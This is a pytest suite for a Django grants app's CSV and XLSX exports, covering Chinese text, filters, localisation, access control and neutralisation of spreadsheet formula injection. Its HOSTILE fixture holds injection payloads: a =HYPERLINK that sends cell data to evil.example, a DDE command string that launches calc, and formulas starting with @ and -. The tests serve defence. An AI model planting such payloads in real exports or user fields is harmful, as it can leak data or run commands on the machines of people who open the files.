"""CSV and XLSX exports of the applications list and the funding report."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

BOM = b"\xef\xbb\xbf"


def _csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _workbook(response):
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return openpyxl.load_workbook(io.BytesIO(response.content))


def test_the_applications_csv_starts_with_a_bom_and_keeps_chinese(login, cast, funding):
    response = login(cast.consultant).get("/reports/applications.csv")
    assert response.status_code == 200
    assert 'attachment; filename="applications-' in response["Content-Disposition"]
    header, *rows = _csv_rows(response)
    assert header[:3] == ["Reference", "Company", "Chinese name"]
    assert len(rows) == 6
    by_reference = {row[0]: row for row in rows}
    funded = by_reference[funding.funded.reference]
    assert funded[1:3] == ["Zhangjiang Robotics", "张江机器人有限公司"]
    assert funded[7:10] == ["300000.00", "250000.00", "150000.00"]
    assert funding.foreign.reference not in by_reference


def test_the_applications_csv_applies_the_filters(login, cast, funding):
    client = login(cast.consultant)
    _, *rows = _csv_rows(client.get("/reports/applications.csv", {"state": "funded"}))
    assert [row[0] for row in rows] == [funding.funded.reference]
    _, *rows = _csv_rows(client.get("/reports/applications.csv", {"q": "陆家嘴"}))
    assert len(rows) == 4


def test_the_applications_xlsx_has_numbers_and_dates(login, cast, funding):
    response = login(cast.consultant).get(
        "/reports/applications.xlsx", {"company": cast.other_company.pk}
    )
    sheet = _workbook(response).active
    header = [c.value for c in sheet[1]]
    assert header[0] == "Reference"
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width > 20
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == {funding.funded.reference, funding.rejected.reference}
    funded = rows[funding.funded.reference]
    assert funded[2].value == "张江机器人有限公司"
    requested = funded[header.index("Requested")]
    assert requested.value == 300000
    assert requested.number_format == "#,##0.00"
    submitted = funded[header.index("Submitted at")]
    assert submitted.value == dt.datetime(2024, 11, 20, 10, 0)  # Shanghai wall time
    created = funded[header.index("Created")]
    assert isinstance(created.value, dt.datetime) and created.number_format == "yyyy-mm-dd"


def test_the_funding_csv_has_every_breakdown(login, cast, funding):
    header, *rows = _csv_rows(login(cast.consultant).get("/reports/funding.csv"))
    assert header == ["Breakdown", "Item", "Requested", "Approved", "Disbursed"]
    assert [
        "By programme",
        "Model voucher (model_voucher)",
        "500000.00",
        "250000.00",
        "150000.00",
    ] in rows
    assert [
        "By client",
        "Zhangjiang Robotics (张江机器人有限公司)",
        "380000.00",
        "250000.00",
        "150000.00",
    ] in rows
    assert ["By year", "2026", "0.00", "0.00", "50000.00"] in rows
    assert rows.count(["By year", "Total", "1080000.00", "650000.00", "150000.00"]) == 1


def test_the_funding_xlsx_has_a_sheet_per_breakdown_with_the_filters(login, cast, funding):
    response = login(cast.consultant).get("/reports/funding.xlsx", {"year": 2025})
    book = _workbook(response)
    assert book.sheetnames == ["By programme", "By client", "By year"]
    years = [[c.value for c in row] for row in book["By year"].iter_rows(min_row=2)]
    assert years == [[2025, 780000, 650000, 100000], ["Total", 780000, 650000, 100000]]
    clients = [row[0].value for row in book["By client"].iter_rows(min_row=2)]
    assert "Lujiazui Vision Ltd (陆家嘴视觉科技有限公司)" in clients


def test_the_exports_speak_chinese(login, cast, funding):
    client = login(cast.consultant)
    header, *_ = _csv_rows(client.get("/reports/applications.csv", HTTP_ACCEPT_LANGUAGE="zh-CN"))
    assert header[0] == "编号"
    book = _workbook(client.get("/reports/funding.xlsx", HTTP_ACCEPT_LANGUAGE="zh-CN"))
    assert book.sheetnames == ["按扶持项目", "按客户", "按年度"]


@pytest.mark.parametrize(
    "path", ["/reports/applications.pdf", "/reports/funding.json", "/reports/funding.csv/"]
)
def test_an_unknown_format_is_a_404(login, cast, path):
    assert login(cast.consultant).get(path).status_code == 404


@pytest.mark.parametrize("path", ["/reports/applications.csv", "/reports/funding.xlsx"])
def test_clients_cannot_export(login, cast, funding, path):
    assert login(cast.client_user).get(path).status_code == 404


def test_the_outsider_exports_only_its_own(login, cast, funding):
    _, *rows = _csv_rows(login(cast.outsider).get("/reports/applications.csv"))
    assert [row[0] for row in rows] == [funding.foreign.reference]


def test_a_bad_filter_is_a_400_with_the_reason(login, cast, funding):
    response = login(cast.consultant).get(
        "/reports/applications.csv", {"company": cast.foreign_company.pk}
    )
    assert response.status_code == 400
    assert "company" in response.content.decode()


HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "name_zh": "+cmd|' /C calc'!A0",
    "title": "-2+3",
    "programme": "@SUM(1+1)",
}


@pytest.fixture
def hostile(cast):
    """A company, project and programme named by someone who wants a formula to run."""
    from tests.factories import CompanyFactory, ProgrammeFactory, ProjectFactory
    from tests.grants.dashboard.conftest import make_application

    company = CompanyFactory(
        organisation=cast.org, name=HOSTILE["name"], name_zh=HOSTILE["name_zh"]
    )
    programme = ProgrammeFactory(code="hostile", name_en=HOSTILE["programme"], name_zh="\tTAB")
    project = ProjectFactory(company=company, title=HOSTILE["title"])
    return make_application(
        company, programme, "submitted", "1000.00", project=project, submitted_at=timezone.now()
    )


def test_the_csv_keeps_user_text_as_text(login, cast, hostile):
    _header, *rows = _csv_rows(login(cast.consultant).get("/reports/applications.csv"))
    (row,) = [r for r in rows if r[0] == hostile.reference]
    assert row[1] == "'" + HOSTILE["name"]
    assert row[2] == "'" + HOSTILE["name_zh"]
    assert row[3] == "'" + HOSTILE["title"]
    assert row[5] == "'" + HOSTILE["programme"]
    assert row[7] == "1000.00"  # amounts are untouched
    funding = _csv_rows(login(cast.consultant).get("/reports/funding.csv"))
    items = [r[1] for r in funding]
    assert f"'{HOSTILE['name']} ({HOSTILE['name_zh']})" in items
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in funding for cell in r)


def test_the_xlsx_keeps_user_text_as_text(login, cast, hostile):
    book = _workbook(login(cast.consultant).get("/reports/applications.xlsx"))
    sheet = book.active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    row = rows[hostile.reference]
    assert [cell.data_type for cell in row[1:4]] == ["s", "s", "s"]  # text, not formulas
    assert row[1].value == "'" + HOSTILE["name"]
    assert row[3].value == "'" + HOSTILE["title"]
    assert row[5].value == "'" + HOSTILE["programme"]
    funding = _workbook(login(cast.consultant).get("/reports/funding.xlsx"))
    cells = [c for ws in funding.worksheets for r in ws.iter_rows() for c in r]
    assert not any(c.data_type == "f" for c in cells)
    assert f"'{HOSTILE['name']} ({HOSTILE['name_zh']})" in [c.value for c in cells]


def test_neutralise_covers_every_formula_start():
    from grants.reports.exports import neutralise

    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
        assert neutralise(f"{start}1") == f"'{start}1"
    assert neutralise("Lujiazui Vision Ltd") == "Lujiazui Vision Ltd"
    assert neutralise("陆家嘴") == "陆家嘴"
    assert neutralise(2026) == 2026 and neutralise(None) is None
